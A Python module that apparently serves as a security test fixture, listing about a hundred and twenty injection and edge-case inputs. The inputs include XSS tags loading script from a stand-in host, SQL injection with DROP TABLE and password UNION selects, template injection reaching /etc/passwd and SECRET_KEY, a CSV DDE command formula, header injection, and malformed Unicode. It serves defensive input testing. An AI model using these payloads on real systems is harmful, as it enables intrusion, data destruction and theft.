"""A hundred and twenty things that somebody may type, or send past the page, in nine kinds.

Each that could run somewhere carries `MARK`, so that an answer shows where it came out. All are invented
here after the kinds of the common collections.
"""

from __future__ import annotations

from typing import NamedTuple

MARK = "xq7"
RUN = f"{MARK}()"


class Payload(NamedTuple):
    """What is sent. `is_text`: it can be kept as it is, where a page asks for words."""

    kind: str
    text: str
    is_text: bool = True


XSS = (
    f"<script>{RUN}</script>",
    f"<script src=//{MARK}.example></script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script/{MARK}>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src='x' onerror='{RUN}'>",
    f"<img/src/onerror={RUN}>",
    f"<img src=x:{MARK} onerror=eval(src)>",
    f'"><img src=x onerror={RUN}>',
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><img src onerror={RUN}></mtext></math>",
    f"<body onload={RUN}>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<object data=javascript:{RUN}></object>",
    f"<a href=javascript:{RUN} id={MARK}>press</a>",
    f"<form action=javascript:{RUN}><button>press</button></form>",
    f"<base href=//{MARK}.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<link rel=stylesheet href=//{MARK}.example/x.css>",
    f"<style>@import '//{MARK}.example/x.css'</style>",
    f'" autofocus onfocus={RUN} x="',
    f"' autofocus onfocus={RUN} x='",
    f"javascript:{RUN}//",
)
SQL = (
    "'",
    "''",
    "\\'",
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR ""="',
    "1; DROP TABLE sharing_exchange; --",
    "'); DROP TABLE records_concern; --",
    "' UNION SELECT password FROM agencies_user --",
    "1 OR pg_sleep(9)",
    "'; SELECT pg_sleep(9); --",
    "'||pg_sleep(9)||'",
    "%' AND 1=0 UNION ALL SELECT NULL,version() --",
    "$$; COMMIT; $$",
    "E'\\x27' OR TRUE /*",
)
TEMPLATE = (
    "{{ 7*7 }}{{ xq7 }}",
    "{% debug %}",
    "{% include '/etc/passwd' %}",
    "{{ request.user.password }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "%(password)s %s %n {0.__class__} {settings.SECRET_KEY}",
    "{# {% csrf_token %} #}{% load static %}",
)
CSV = (
    "=1+1",
    '=HYPERLINK("http://xq7.example","press")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\uff1d1+1",
    '"=1+1","=2+2"',
    "a\n=1+1",
)
HEADER = (
    "a@b.example\r\nBcc: all@xq7.example",
    "a\nContent-Type: text/html\n\n<script>xq7()</script>",
    "x\r\nSet-Cookie: check_back_session=xq7",
    "x%0d%0aLocation:%20http://xq7.example",
    '"a"@b@c.example, <d@e.example>',
    "http://xq7.example/\\@localhost//",
)
UNICODE = (
    "a\u202egnp.exe\u2066b\u2069\u200f",
    "Ze\u0301phyr \u0065\u0301\u0301\u0301",
    "👩🏽\u200d🚒👨\u200d👩\u200d👧\u200d👦",
    "\u200bzero\u200cwidth\u200d\u2060",
    "\ufeffmark of order",
    "ΑΒС\u0430\u0435 look-alikes",
    "\u0130\u0131 \u00df \ufb03 \u01c4",
    "مرحبا שלום עברית",
    "漢字 かな 한글 𠜎𠜱",
    "\U0001d4d0\U0001d4d1 \u2460\u00bd",
    "Z\u0335\u0321\u0322\u0327a\u0335\u0328l\u0334\u0321g\u0337\u0322o\u0336" * 4,
    "line\u2028separator\u2029paragraph\x85next",
    "\ufff9between\ufffa lines\ufffb",
    "non\u00a0breaking\u3000ideographic",
    "\x1b[31mred\x07\x08",
)
NO_TEXT = (
    "a\0b",
    "\0",
    "xq7\0<script>xq7()</script>",
    "could not be read \ufffd",
    "half a pair \ud83d",
)
HUGE = (
    "abcdefghi " * 100_000,
    "x" * 200_000,
    "\n" * 100_000,
    "<" * 70_000,
)
WRONG = (
    "no such thing",
    "9" * 400,
    "-1",
    "1e309",
    "NaN",
    "true",
    "[]",
    '{"a": [null]}',
    "\uff11\uff12",
    "00000000-0000-0000-0000-000000000000",
)
DATES = (
    "2027-02-30",
    "0000-00-00",
    "99999-12-31",
    "31/13/2027 25:61",
    "-1-0-00001",
)

ALL: tuple[Payload, ...] = tuple(
    Payload(kind, text, is_text)
    for kind, texts, is_text in (
        ("script", XSS, True),
        ("SQL", SQL, True),
        ("template", TEMPLATE, True),
        ("formula", CSV, True),
        ("header", HEADER, True),
        ("letters", UNICODE, True),
        ("no text", NO_TEXT, False),
        ("huge", HUGE, False),
        ("wrong kind", WRONG, True),
        ("date", DATES, True),
    )
    for text in texts
)
STORED = tuple(one for one in ALL if one.is_text)
